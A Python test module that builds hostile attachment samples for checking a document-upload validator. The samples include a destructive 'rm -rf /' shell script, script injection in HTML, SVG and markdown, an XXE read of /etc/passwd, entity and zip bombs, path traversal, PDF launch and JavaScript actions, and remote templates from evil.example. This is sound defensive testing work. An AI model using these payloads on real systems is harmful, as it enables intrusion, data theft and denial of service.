"""Annexes that run something, fetch something, burst, or tell who somebody is."""

import zipfile
from io import BytesIO

from pypdf import PdfWriter
from pypdf.generic import NameObject

from tests.annexes.samples import (
    CORE,
    RELATIONS,
    docx,
    names,
    odt,
    package,
    pdf,
    photo,
    svg,
)
from tests.hostile.case import Case, annex, case

EVIL = "https://evil.example"
PAGE = b"<!doctype html><script>window.__pwned=1</script>"
ENTITIES = "".join(
    f"<!ENTITY {key} '{f'&{before};' * 10}'>"
    for before, key in zip("abcdefgh", "bcdefghi", strict=True)
)
BOMB = f"<!DOCTYPE svg [<!ENTITY a 'x'>{ENTITIES}]>"
RELATION = RELATIONS.format(
    f"<Relationship Id='r1' Type='x/attachedTemplate' Target='{EVIL}/x.dotm'"
    " TargetMode='External'/>"
)
FILE = RELATIONS.format("<Relationship Id='r1' Type='x' Target='file:///x' TargetMode='External'/>")


def acting(kind: str) -> bytes:
    def change(writer: PdfWriter) -> None:
        action = names({"/S": f"/{kind}", "/F": "/rekenblad.exe", "/JS": "/x"})
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return pdf(change)


def burst() -> bytes:
    """A hundred kilobytes that become a hundred megabytes."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b" " * 100_000_000)
    return out.getvalue()


CASES: tuple[Case, ...] = (
    case("page-as-annex", "018", "runs", annex("plan.html", PAGE)),
    case("page-called-pdf", "018", "runs", annex("plan.pdf", PAGE)),
    case("page-called-text", "018", "runs", annex("plan.txt", PAGE)),
    case("page-called-drawing", "018", "runs", annex("plan.svg", PAGE)),
    case("program", "018", "runs", annex("plan.exe", b"MZ" + bytes(100))),
    case("program-called-pdf", "018", "runs", annex("plan.pdf", b"\x7fELF" + bytes(100))),
    case("shell-script", "018", "runs", annex("plan.sh", b"#!/bin/sh\nrm -rf /\n")),
    case("shortcut", "018", "runs", annex("plan.url", b"[InternetShortcut]\nURL=file:///x\n")),
    case("archive", "018", "nobody looks into it", annex("plan.zip", package({"x.exe": b"MZ"}))),
    case("archive-called-document", "018", "nobody looks into it",
         annex("plan.docx", package({"../../x.exe": b"MZ"}))),
    case("drawing-with-a-script", "020", "runs",
         annex("plan.svg", svg("<script>window.__pwned=1</script>"))),
    case("svg-with-an-event", "020", "runs",
         annex("plan.svg", svg(attributes="onload='window.__pwned=1'"))),
    case("drawing-with-a-page", "020", "runs",
         annex("plan.svg", svg("<foreignObject><b>x</b></foreignObject>"))),
    case("drawing-from-elsewhere", "020", "tells who reads",
         annex("plan.svg", svg(f"<image href='{EVIL}/x.png'/>"))),
    case("drawing-with-a-link-that-runs", "020", "runs",
         annex("plan.svg", svg("<a href='java&#x09;script:x'><rect/></a>"))),
    case("drawing-that-laughs", "020", "fills the memory",
         annex("plan.svg", svg("<text>&i;</text>", before=BOMB))),
    case("drawing-that-reads", "020", "reads a file",
         annex("plan.svg", svg(before="<!DOCTYPE s [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"))),
    case("drawing-of-drawings", "019", "fills the stack",
         annex("plan.svg", svg("<g>" * 100_000 + "</g>" * 100_000))),
    case("pdf-that-launches", "020", "runs", annex("plan.pdf", lambda: acting("Launch"))),
    case("pdf-that-runs", "020", "runs", annex("plan.pdf", lambda: acting("JavaScript"))),
    case("pdf-with-a-file", "020", "runs", annex("plan.pdf", lambda: pdf(
        lambda writer: writer.add_attachment("x.exe", b"MZ")))),
    case("pdf-with-a-password", "019", "nobody looks into it", annex("plan.pdf", lambda: pdf(
        lambda writer: writer.encrypt("geheim", algorithm="RC4-128")))),
    case("pdf-of-garbage", "019", "breaks readers", annex("plan.pdf", b"%PDF-1.7\n" + bytes(9999))),
    case("pdf-of-objects", "019", "takes long",
         annex("plan.pdf", b"%PDF-1.7\n" + b"1 0 obj<</A[" * 90_000)),
    case("pdf-that-names", "516", "names a person", annex("plan.pdf", lambda: pdf(
        lambda writer: writer.add_metadata({"/Author": "Jan Peeters"})))),
    case("pdf-with-a-national-number", "511", "names a person",
         annex("plan.pdf", lambda: pdf(text="85.07.30-033.28"))),
    case("text-with-an-account", "513", "names a person",
         annex("plan.txt", b"Stort op BE71 0961 2345 6769.\n")),
    case("document-with-macros", "020", "runs",
         annex("plan.docm", lambda: docx(**{"word__vbaProject.bin": b"\xd0\xcf\x11\xe0"}))),
    case("document-from-elsewhere", "020", "runs",
         annex("plan.docx", lambda: docx(**{"word___rels__settings.xml.rels": RELATION}))),
    case("document-that-reads", "020", "reads a file",
         annex("plan.docx", lambda: docx(**{"word___rels__document.xml.rels": FILE}))),
    case("document-that-names", "516", "names a person", annex("plan.docx", lambda: docx(
        **{"docProps__core.xml": CORE.format("<dc:creator>Jan Peeters</dc:creator>")}))),
    case("document-that-bursts", "019", "fills the memory", annex("plan.docx", burst)),
    case("document-with-a-way-out", "019", "writes elsewhere",
         annex("plan.docx", lambda: docx(**{"..__x": "x"}))),
    case("text-document-from-elsewhere", "020", "tells who reads",
         annex("plan.odt", lambda: odt(f"<draw:image xlink:href='{EVIL}/x.png'/>"))),
    case("photo-with-its-place", "518", "tells where somebody lives",
         annex("foto.jpg", lambda: photo(latitude=True))),
    case("no-photo", "018", "breaks readers", annex("foto.png", b"\x89PNH" + bytes(100))),
    case("annex-of-25-mb", "019", "fills the memory",
         annex("plan.pdf", b"%PDF-1.7\n" + bytes(25_000_000))),
    case("empty-annex", "018", "is nothing", annex("plan.pdf", b"")),
    case("text-in-an-annex", "506 507", "runs",
         annex("plan.md", b"# Plan\n\n<script>x</script>\n\n[x](javascript:x)\n")),
)  # fmt: skip
